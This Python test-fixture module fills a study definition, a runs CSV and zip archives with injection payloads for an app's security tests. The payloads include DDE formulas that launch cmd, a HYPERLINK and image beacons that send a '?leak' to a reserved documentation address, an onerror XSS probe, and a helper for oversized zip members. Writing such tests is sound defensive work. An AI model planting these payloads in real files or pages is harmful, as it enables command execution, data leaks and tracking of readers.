"""A study whose every piece of text is a payload, shared by the security tests.

The formula payloads are those of OWASP's "CSV Injection" page (from memory);
the Markdown and HTML ones are the constructs of the CommonMark spec 0.31
(images 6.4, links 6.3, raw HTML 6.6) and GitHub's bare-link extension, all
pointing at 203.0.113.7, an address reserved for documentation (RFC 5737,
TEST-NET-3) that is never anyone's.
"""
from __future__ import annotations

import csv
import io
import json
import zipfile

HOST = "203.0.113.7"
LEVELS = ["=1+2*3", "@SUM(1+9)*cmd|' /C calc'!A0"]
RUN_IDS = ["=1+2*3", "+2+3+cmd|' /C calc'!A0", f"![r](http://{HOST}/r.png)",
           "<img src=x onerror=alert(1)>", "-2+3"]
STUDY_NAME = f'=HYPERLINK("http://{HOST}/?leak","open") ![pixel](http://{HOST}/p.png)'
DESCRIPTION = (f'<img src="http://{HOST}/d.png"> [click me](http://{HOST}/) **loud** '
               f"www.{HOST}.example :red[red] bob@{HOST}.example")
FACTOR_LABEL = f"![f](http://{HOST}/f.png) -2+3"
FACTOR_UNIT = "<b>%</b>"
BINDER_LABEL = f"[binder](http://{HOST}/b)"
RESPONSE_LABEL = "@SUM(1+9)*cmd|' /C calc'!A0 _x_"
RESPONSE_UNIT = f"![u](http://{HOST}/u.png)"
# an uploaded file's name (no '/', which a file name cannot hold)
FILE_NAME = "<img src=n.png> ![n](n.png) _up_.toml"
# every text the workbench must show exactly as typed
SHOWN_AS_TYPED = [STUDY_NAME, DESCRIPTION, FACTOR_LABEL, FACTOR_UNIT, BINDER_LABEL,
                  RESPONSE_LABEL, RESPONSE_UNIT]

PAYLOAD_STUDY = f"""\
[study]
name = {json.dumps(STUDY_NAME)}
description = {json.dumps(DESCRIPTION)}
data = "runs.csv"

[[factors]]
name = "protein"
label = {json.dumps(FACTOR_LABEL)}
unit = {json.dumps(FACTOR_UNIT)}
low = 20
high = 30

[[factors]]
name = "binder"
label = {json.dumps(BINDER_LABEL)}
levels = {json.dumps(LEVELS)}

[[responses]]
name = "hardness"
label = {json.dumps(RESPONSE_LABEL)}
unit = {json.dumps(RESPONSE_UNIT)}
goal = "minimize"
lower = 15
upper = 35
"""


def payload_runs() -> bytes:
    """The runs table: payload run ids and level names, real numbers."""
    rows = [["run", "protein", "binder", "hardness"]]
    for run, (p, b, y) in zip(RUN_IDS, [(20, 0, 18.5), (30, 0, 27.0), (20, 1, 16.0),
                                        (30, 1, 24.5), (25, 1, 21.0)]):
        rows.append([run, p, LEVELS[b], y])
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    return out.getvalue().encode("utf-8")


def zip_archive(members: dict[str, bytes | int], level: int = 1) -> bytes:
    """A zip archive; an int member is that many spaces, written in 1 MB pieces."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, content in members.items():
            with archive.open(name, "w") as stream:
                if isinstance(content, int):
                    piece = b" " * 2**20
                    for _ in range(content // 2**20):
                        stream.write(piece)
                else:
                    stream.write(content)
    return out.getvalue()
